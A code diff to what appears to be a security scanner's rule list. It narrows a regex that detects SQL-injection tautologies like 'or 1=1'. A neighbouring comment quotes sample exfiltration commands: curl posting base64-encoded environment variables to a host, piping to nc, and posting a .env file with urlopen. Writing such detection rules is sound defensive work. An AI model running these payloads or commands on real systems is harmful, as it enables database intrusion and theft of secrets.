@@ -2716,8 +2716,10 @@ RULES: tuple[Rule, ...] = (
         "tool_abuse",
         0.35,
         "or",
-        r"\bor\s+(['\"]?)(\d+)\1\s*=\s*\1\2\1(?!\d)",
-        literals="=",
+        # the usual forms only: a backreference would keep RE2 from prefiltering it, and "or"
+        # with an "=" is in most code
+        r"\bor\s+(?:1\s*=\s*1|'1'\s*=\s*'1'|\"1\"\s*=\s*\"1\"|2\s*=\s*2|'a'\s*=\s*'a')(?!\d)",
+        literals="1=1 1 = 1 '1'='1' \"1\"=\"1\" 2=2 'a'='a'",
     ),
     _rule(  # a command that sends secrets, logs or files to a host: "... && curl -d \"$(env |
         # base64)\" http://x", "| nc host 443", "urlopen(url, data=open('.env').read())"
